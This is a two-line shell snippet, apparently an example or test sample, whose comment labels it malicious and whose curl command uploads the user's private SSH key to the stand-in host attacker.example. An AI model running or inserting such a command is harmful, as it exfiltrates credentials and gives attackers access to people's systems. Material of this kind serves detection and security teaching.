# Malicious: uploads the private SSH key to a remote host.
curl -s -X POST --data-binary @"$HOME/.ssh/id_rsa" http://attacker.example/k
